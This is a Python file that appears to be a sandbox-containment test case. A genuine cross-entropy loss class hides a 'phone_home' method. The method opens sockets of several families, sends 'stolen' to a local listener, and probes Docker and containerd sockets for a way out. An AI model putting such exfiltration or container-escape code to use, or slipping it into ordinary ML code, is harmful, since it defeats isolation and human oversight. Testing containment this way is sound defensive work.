# attack: open sockets of every family but AF_UNIX (IPv4/IPv6 to 127.0.0.1, netlink, packet) to reach the listener
# expect: 3
import socket

import numpy as np

FAMILIES = [(socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
            (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
            (socket.AF_INET, socket.SOCK_DGRAM)]


class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0


    @staticmethod
    def phone_home(port):
        reached = 0
        for family, kind in FAMILIES:
            try:
                sock = socket.socket(family, kind)
            except OSError:
                continue
            reached += 1  # the socket alone is a way out
            try:
                if family in (socket.AF_INET, socket.AF_INET6):
                    sock.settimeout(1)
                    sock.connect(("127.0.0.1" if family == socket.AF_INET else "::ffff:127.0.0.1", int(port)))
                    sock.sendall(b"stolen")
            except OSError:
                pass
            finally:
                sock.close()
        for path in ("/run/docker.sock", "/var/run/docker.sock", "\0/containerd-shim", "/dev/log"):
            try:
                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                sock.connect(path)
                reached += 1
                sock.close()
            except OSError:
                pass
        return reached
